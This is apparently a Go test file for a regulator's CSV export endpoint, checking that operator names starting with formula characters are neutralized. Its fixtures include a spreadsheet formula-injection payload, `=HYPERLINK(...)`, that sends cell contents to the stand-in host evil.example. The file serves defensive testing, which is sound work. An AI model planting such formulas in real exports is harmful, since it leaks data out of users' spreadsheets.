package httpapi

import (
	"encoding/csv"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/shopspring/decimal"

	"github.com/ictledger/ictledger/calculators"
	"github.com/ictledger/ictledger/ledger"
	"github.com/ictledger/ictledger/service"
	"github.com/ictledger/ictledger/service/servicetest"
)

func TestCSVText(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{"Sakura Mobile K.K.", "Sakura Mobile K.K."},
		{`=HYPERLINK("https://evil.example","x")`, `'=HYPERLINK("https://evil.example","x")`},
		{"+81 Mobile", "'+81 Mobile"},
		{"-minus-net", "'-minus-net"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\tcmd", "'\tcmd"},
		{"\rcmd", "'\rcmd"},
		{"a=b", "a=b"},
		{"東京テレコム", "東京テレコム"},
	} {
		if got := csvText(tc.in); got != tc.want {
			t.Errorf("csvText(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// A metric cell is a number, negative or not, and stays one: only the
// text cells are neutralized.
func TestExportRecordKeepsNumbers(t *testing.T) {
	row := service.SectorRow{Operator: "-minus-net", Name: "=1+2", Country: "JP", State: "filed",
		Metrics: map[string]calculators.Value{"change": calculators.Some(decimal.RequireFromString("-12.5"))}}
	rec := exportRecord(row, []service.HeadlineStat{{Key: "change"}})
	if rec[0] != "'-minus-net" || rec[1] != "'=1+2" || rec[len(rec)-1] != "-12.5" {
		t.Fatalf("record %q", rec)
	}
}

// TestSectorExportNeutralizesFormulas: an operator registered with a
// formula for a name, or an id that begins with '-', comes out of
// export.csv as text a spreadsheet will not evaluate, and the metric
// values of the row are still the plain decimals.
func TestSectorExportNeutralizesFormulas(t *testing.T) {
	env := servicetest.New(t, time.Date(2025, 11, 20, 0, 0, 0, 0, time.UTC))
	evil := `=HYPERLINK("https://evil.example/?d="&A1,"Open")`
	secret := env.Operator("sakura-mobile", evil, "JP")
	env.Operator("-minus-net", "@SUM(A1:A9)", "JP")
	env.Operator("plus-net", "+81 Mobile", "JP")
	env.File(secret, servicetest.ExampleReturn(t, "sakura-mobile", "2025-Q3"))
	reg := env.Token(ledger.RoleRegulator)
	s := New(Config{Service: env.Service})

	r := httptest.NewRequest(http.MethodGet, "/v1/sector/export.csv?period=2025-Q3", nil)
	r.Header.Set("Authorization", "Bearer "+reg)
	rec := httptest.NewRecorder()
	s.ServeHTTP(rec, r)
	if rec.Code != http.StatusOK {
		t.Fatalf("status %d: %s", rec.Code, rec.Body)
	}
	records, err := csv.NewReader(strings.NewReader(rec.Body.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	names := map[string]string{}
	numbers := 0
	for _, row := range records[1:] {
		names[row[0]] = row[1]
		for i, cell := range row {
			if i < 7 && cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("text cell %d of %q begins with %q", i, row[0], cell[0])
			}
			if i >= 7 && cell != "" {
				if _, err := decimal.NewFromString(cell); err != nil {
					t.Errorf("metric cell %d of %q is not a number: %q", i, row[0], cell)
				}
				numbers++
			}
		}
	}
	if names["sakura-mobile"] != "'"+evil || names["'-minus-net"] != "'@SUM(A1:A9)" || names["plus-net"] != "'+81 Mobile" {
		t.Fatalf("names %q", names)
	}
	if numbers == 0 {
		t.Fatal("no metric value in the export")
	}
}
